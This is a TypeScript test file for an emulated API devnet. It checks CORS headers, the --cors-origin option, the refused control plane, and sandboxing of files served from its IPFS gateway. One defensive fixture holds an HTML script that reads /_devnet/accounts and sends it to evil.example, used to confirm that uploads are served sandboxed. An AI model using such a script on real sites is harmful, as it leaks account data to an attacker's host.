// CORS of the emulated API (any origin by default, --cors-origin restricts or turns it off, never the
// control plane) and the sandbox of everything the gateway serves.
import { describe, expect, it } from 'vitest';
import { failedCode, testClient } from '../support/client.js';
import type { TestClient } from '../support/client.js';
import { fileForm, genesisProject, upload } from '../support/storage-files.js';

const APP = 'http://localhost:3000';

/** A browser's preflight before a POST with JSON and an API key, as axios sends it from the marketplace app. */
function preflight(c: TestClient, path: string, origin = APP, extra: Record<string, string> = {}): Promise<Response> {
  return c.dn.fetch('http://127.0.0.1:8080' + path, {
    method: 'OPTIONS',
    headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type,x-api-key', ...extra },
  });
}

describe('CORS, by default (any origin, as Anvil)', () => {
  it('answers a preflight of an emulated route with 204 and the headers the app asks for', async () => {
    const c = testClient();
    for (const path of ['/v1/order', '/v1/project', '/v1/transfers', '/v1/project/x/storage']) {
      const res = await preflight(c, path);
      expect(res.status, path).toBe(204);
      expect(res.headers.get('access-control-allow-origin')).toBe('*');
      expect(res.headers.get('access-control-allow-methods')).toMatch(/POST/);
      expect(res.headers.get('access-control-allow-headers')?.toLowerCase()).toContain('x-api-key');
      expect(res.headers.get('access-control-allow-headers')?.toLowerCase()).toContain('content-type');
    }
  });

  it('puts Access-Control-Allow-Origin on answers to cross-origin requests, FAILED ones included', async () => {
    const c = testClient();
    const ok = await c.get(`/v1/nonce?stark_key=${c.accounts.alice.stark_key}`, { origin: APP });
    expect(ok.body.status).toBe('OK');
    const res = await c.dn.fetch(`http://devnet.test/v1/nonce?stark_key=${c.accounts.alice.stark_key}`, { headers: { origin: APP } });
    expect(res.headers.get('access-control-allow-origin')).toBe('*');
    const refused = await c.dn.fetch('http://devnet.test/v1/project', {
      method: 'POST',
      headers: { origin: APP, 'content-type': 'application/json' },
      body: '{}',
    });
    expect(refused.status).toBe(401);
    expect(refused.headers.get('access-control-allow-origin')).toBe('*');
  });

  it("answers Chrome's private-network preflight (a public page calling the emulator on localhost)", async () => {
    const c = testClient();
    const res = await preflight(c, '/v1/order', 'https://marketplace.example', { 'access-control-request-private-network': 'true' });
    expect(res.headers.get('access-control-allow-private-network')).toBe('true');
  });

  it('never opens the control plane: no CORS headers, and the cross-site guard refuses the preflight', async () => {
    const c = testClient();
    for (const path of ['/_devnet/deposit', '/_devnet/accounts', '/_devnet/reset']) {
      const res = await preflight(c, path);
      expect(res.status, path).toBe(403);
      expect(res.headers.get('access-control-allow-origin')).toBeNull();
    }
  });
});

describe('--cors-origin', () => {
  it('restricts CORS to the listed origins, echoing the origin and varying on it', async () => {
    const c = testClient({ corsOrigins: [APP] });
    const yes = await preflight(c, '/v1/order');
    expect(yes.status).toBe(204);
    expect(yes.headers.get('access-control-allow-origin')).toBe(APP);
    expect(yes.headers.get('vary')).toMatch(/Origin/);
    const no = await preflight(c, '/v1/order', 'http://evil.example');
    expect(no.headers.get('access-control-allow-origin')).toBeNull();
    const read = await c.dn.fetch(`http://devnet.test/v1/nonce?stark_key=${c.accounts.alice.stark_key}`, {
      headers: { origin: 'http://evil.example' },
    });
    expect(read.headers.get('access-control-allow-origin')).toBeNull();
    expect(read.headers.get('vary')).toMatch(/Origin/);
  });

  it('none turns CORS off: a preflight is a method the path does not take (405, Allow: GET, POST, HEAD), no header anywhere', async () => {
    const c = testClient({ corsOrigins: [] });
    const res = await preflight(c, '/v1/order');
    expect(res.status).toBe(405);
    expect(res.headers.get('allow')).toBe('GET, POST, HEAD');
    expect(res.headers.get('access-control-allow-origin')).toBeNull();
    const read = await c.dn.fetch(`http://devnet.test/v1/nonce?stark_key=${c.accounts.alice.stark_key}`, { headers: { origin: APP } });
    expect(read.headers.get('access-control-allow-origin')).toBeNull();
  });
});

describe('gateway content is sandboxed', () => {
  const html = new TextEncoder().encode(
    '<script>fetch("/_devnet/accounts").then(r => r.text()).then(t => fetch("https://evil.example/?" + t))</script>',
  );

  it('an uploaded HTML file is served with Content-Security-Policy: sandbox and nosniff; so are listings and refusals', async () => {
    const c = testClient();
    const stored = await upload(c, await genesisProject(c), fileForm('evil.html', html, 'text/html'));
    expect(stored.body.status).toBe('OK');
    const cid = stored.body.data.cid as string;
    for (const [path, status] of [
      [`/ipfs/${cid}/evil.html`, 200],
      [`/ipfs/${cid}/`, 200],
      [`/ipfs/${cid}`, 200],
      [`/ipfs/${cid}/missing.html`, 404],
      ['/ipfs/not-a-cid/x', 400],
    ] as const) {
      const res = await c.dn.fetch('http://devnet.test' + path);
      expect(res.status, path).toBe(status);
      expect(res.headers.get('content-security-policy'), path).toBe('sandbox');
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff');
    }
    const file = await c.dn.fetch(`http://devnet.test/ipfs/${cid}/evil.html`);
    expect(file.headers.get('content-type')).toMatch(/^text\/html/);
    expect(new Uint8Array(await file.arrayBuffer())).toEqual(html);
  });

  it('gateway answers carry Access-Control-Allow-Origin even without an Origin (a cached copy may serve a cross-origin read later)', async () => {
    const c = testClient();
    const cid = (await upload(c, await genesisProject(c), fileForm('a.json', new TextEncoder().encode('{"name":"nft"}')))).body.data
      .cid as string;
    const res = await c.dn.fetch(`http://devnet.test/ipfs/${cid}/a.json`);
    expect(res.headers.get('access-control-allow-origin')).toBe('*');
    expect(failedCode(await c.get('/ipfs/not-a-cid'))).toBe(19);
  });
});
